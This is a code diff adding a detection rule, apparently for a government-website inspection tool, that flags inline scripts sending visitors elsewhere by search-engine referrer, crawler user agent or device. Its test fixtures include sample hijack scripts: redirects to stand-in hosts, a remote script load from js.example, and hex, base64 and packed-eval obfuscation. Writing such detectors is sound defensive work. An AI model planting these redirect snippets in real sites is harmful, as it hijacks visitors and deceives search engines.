@@ -1,0 +1,101 @@
+import { addressOf, isGovernment, isStranger } from '../host.ts';
+import { ownHost } from '../own.ts';
+import type { Page } from '../page.ts';
+import { type PageContext, type PageFault, pageRule } from '../rule.ts';
+import { inlineScripts, stringsIn } from '../scripts.ts';
+
+const ENGINES = /baidu|sogou|(?:so|360|haosou)\.com|\bso\b.{0,3}\.com|google|bing|yahoo|shenma|sm\.cn|toutiao/i;
+const SPIDERS = /(?:baidu|sogou|360|yisou|byte|haosou)\s*(?:web\s*)?spider|googlebot|bingbot|\bspider\b|slurp/i;
+const PHONES = /mobile|android|iphone|ipad|ipod|symbian|windows phone|ucweb|midp/i;
+const READS_REFERRER = /\breferr?er\b/i;
+const READS_AGENT = /userAgent/i;
+/** Sends the visitor on, or writes what does. */
+const SENDS =
+  /location(?:\.href)?\s*=(?!=)|\[\s*['"](?:location|href)['"]\s*\]\s*=(?!=)|location\s*\.\s*(?:replace|assign)\s*\(|window\.open\s*\(|document\.write(?:ln)?\s*\(\s*['"]?.{0,20}<\s*(?:script|iframe|meta)/i;
+const WRITES =
+  /document\.write(?:ln)?\s*\(|innerHTML\s*=|document\.title\s*=|createElement\s*\(\s*['"](?:script|iframe)/i;
+
+function targets(source: string): URL[] {
+  return stringsIn(source).flatMap((text) => (/^(?:https?:)?\/\//i.test(text) ? (addressOf(text) ?? []) : []));
+}
+
+/** The source, when it picks its visitors and sends them to strangers. */
+function sendsAway(source: string, own: string | null): boolean {
+  const sends = SENDS.test(source);
+  const leaves = targets(source).filter((url) => !ENGINES.test(url.hostname));
+  const strangers = leaves.filter((url) => isStranger(url, own) && !(own === null && isGovernment(url)));
+  const unsaid =
+    leaves.length === 0 &&
+    !/(?:location(?:\.href)?\s*=\s*|location\.(?:replace|assign)\(\s*|open\(\s*)['"]/i.test(source);
+  if (READS_REFERRER.test(source) && ENGINES.test(source))
+    return (sends && (strangers.length > 0 || unsaid)) || (WRITES.test(source) && strangers.length > 0);
+  if (!READS_AGENT.test(source)) return false;
+  if (SPIDERS.test(source)) return (sends || WRITES.test(source)) && (strangers.length > 0 || WRITES.test(source));
+  return PHONES.test(source) && sends && strangers.length > 0;
+}
+
+const faults = (page: Page, context: PageContext): PageFault[] => {
+  const own = ownHost(page, context);
+  return inlineScripts(page)
+    .filter(({ source }) => sendsAway(source, own))
+    .map(({ element }) => ({ element }));
+};
+
+const script = (source: string) =>
+  `<html><head><title>教育局</title><script>${source}</script></head><body></body></html>`;
+
+export const scriptRedirect = pageRule({
+  id: 'script-redirect',
+  severity: 'high',
+  finds: {
+    zh: '页面脚本按来源、搜索引擎或者访问设备把访问者引向外部网站，疑似被篡改。',
+    en: 'A script sends visitors elsewhere, by where they come from or what they read with: probably tampered.',
+  },
+  ground: '《政府网站与政务新媒体检查指标》（国办秘函〔2019〕19号）单项否决：安全、泄密事故等严重问题',
+  remedy: {
+    zh: '立即删除该脚本，从搜索引擎结果进入再次核对，排查服务器是否被入侵。',
+    en: 'Remove the script at once, try the page again by way of a search engine, and have the server examined.',
+  },
+  examples: {
+    match: [
+      script('if(/baidu|sogou|so\\.com/i.test(document.referrer)){window.location.href="http://www.win.example/"}'),
+      script('var r=document.referrer;if(r.indexOf("baidu")>0)location.replace("//go.example/x")'),
+      script('if(navigator.userAgent.match(/Android|iPhone/i)){top.location="https://m.play.example"}'),
+      script(
+        'if(/Baiduspider|Googlebot/i.test(navigator.userAgent)){document.title="娱乐";document.write("<h1>x</h1>")}',
+      ),
+      script(
+        'if(document.referrer.indexOf("google")>-1){document.write("<script src=\'http://js.example/1.js\'><\\/script>")}',
+      ),
+      script(
+        'var u="\\x68\\x74\\x74\\x70\\x3a\\x2f\\x2fgo.example";if(document.referrer.match(/baidu/))location.href=u',
+      ),
+      script(
+        "eval(function(p,a,c,k,e,d){return p}('4(0.1.2(\"3\")>0)5.6=\"7://8.9\"',10,10,'document|referrer|indexOf|baidu|if|location|href|http|go|example'.split('|'),0,{}))",
+      ),
+      script(
+        'var s=document.referrer,e=["baidu.com","sogou.com"];if(s.match(e[0]))window.location=atob("aHR0cDovL3g=")',
+      ),
+    ],
+    pass: [
+      script('if(/Android|iPhone/i.test(navigator.userAgent)){location.href="/mobile/index.html"}'),
+      {
+        html: script('if(/Mobile/.test(navigator.userAgent))window.location.href="http://m.county.gov.cn/"'),
+        url: 'http://www.county.gov.cn/',
+      },
+      {
+        html: script('if(/Mobile/.test(navigator.userAgent))location="http://m.site.example/"'),
+        url: 'http://www.site.example/',
+      },
+      script(
+        'var hm=document.createElement("script");hm.src="https://hm.baidu.com/hm.js?0";document.head.appendChild(hm)',
+      ),
+      script('var back=document.referrer;if(back){location.href=back}else{location.href="/"}'),
+      script('if(navigator.userAgent.indexOf("MSIE 6")>0){alert("请升级浏览器")}'),
+      script('function search(q){window.open("/search?q="+q)} // 支持百度、baidu 等搜索引擎收录'),
+      script('if(/baidu/.test(document.referrer)){document.getElementById("from").value="baidu"}'),
+      '<script type="application/ld+json">{"url":"https://a.example","referrer":"baidu","location":"x"}</script>',
+    ],
+  },
+  faults,
+});
